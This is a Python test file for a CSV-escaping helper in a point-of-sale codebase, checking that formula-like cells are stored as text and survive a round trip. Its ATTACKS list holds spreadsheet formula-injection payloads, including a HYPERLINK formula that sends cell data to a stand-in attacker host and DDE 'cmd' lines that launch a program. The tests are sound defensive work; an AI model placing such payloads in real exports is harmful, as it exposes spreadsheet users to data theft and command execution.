"""CSV cells a spreadsheet cannot run as formulas, and the text they give back on import."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pos.domain.csv_safe import FORMULA_STARTS, safe_cell, safe_row, unquote_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def lf(text: str) -> str:
    """A text as a CSV cell keeps it: its carriage returns as line feeds."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_written_as_text(attack: str) -> None:
    cell = safe_cell(attack)
    assert cell == "'" + lf(attack)
    assert unquote_cell(str(cell)) == lf(attack)


def test_a_carriage_return_cannot_split_a_row() -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(safe_row(["a\rb", "c\r\nd", 1]))
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["a\nb", "c\nd", "1"]]


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    # a money column keeps its minus sign: -12.00 is a number the spreadsheet adds up
    row = safe_row(["ผ้าไหมมัดหมี่", Decimal("-12.00"), -3, 4, "", None, "'quoted", "a=b"])
    assert row == ["ผ้าไหมมัดหมี่", Decimal("-12.00"), -3, 4, "", None, "'quoted", "a=b"]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(row)
    assert out.getvalue() == "ผ้าไหมมัดหมี่,-12.00,-3,4,,,'quoted,a=b\n"


def test_a_text_that_already_looks_quoted_survives_the_round_trip() -> None:
    assert safe_cell("'=x") == "''=x"
    assert unquote_cell("''=x") == "'=x"
    assert unquote_cell("'hello") == "'hello"  # a quote a user typed is kept


@settings(max_examples=100)
@given(
    text=st.one_of(
        st.text(max_size=20),
        st.builds(lambda q, f, t: q + f + t, st.text("'", max_size=3),
                  st.sampled_from(sorted(FORMULA_STARTS)), st.text(max_size=10)),
    )
)  # fmt: skip
def test_every_text_is_safe_and_comes_back_unchanged(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert cell[:1] not in FORMULA_STARTS
    assert "\r" not in cell
    assert unquote_cell(cell) == lf(text)
